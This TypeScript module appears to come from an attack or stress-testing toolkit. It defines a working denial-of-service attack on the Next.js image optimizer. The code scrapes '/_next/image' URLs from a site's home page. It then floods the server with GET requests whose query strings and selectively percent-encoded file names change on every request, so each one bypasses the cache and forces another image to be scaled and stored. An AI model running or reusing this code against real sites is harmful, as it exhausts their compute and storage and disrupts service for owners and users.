import { type Attack, floodWithGets, readPage } from '../attack';

/** Each query and writing of an address once was another picture to scale and to keep. */
export const pictureQueries: Attack = async (site) => {
  const page = await readPage(site, '/');
  const scaled = [...page.matchAll(/\/_next\/image\?url=([^&"]+)&amp;w=(\d+)/g)];
  const sources = scaled.map(([, url = '', width = '']) => ({ url, width }));
  await floodWithGets(site, (n) => {
    const { url, width } = sources[n % sources.length] ?? { url: '', width: '' };
    return `/_next/image?url=${written(url, n)}%3Fx%3D${n}&w=${width}&q=75&y=${n}`;
  });
};

/** Some letters of the file's name, each time others, encoded although they need not be. */
function written(url: string, n: number): string {
  const at = url.lastIndexOf('%2F') + 3;
  let bit = 0;
  const name = url.slice(at).replace(/[a-z]/g, (letter) => {
    const isChosen = (n >> (bit++ % 16)) & 1;
    return isChosen ? `%25${letter.charCodeAt(0).toString(16)}` : letter;
  });
  return url.slice(0, at) + name;
}
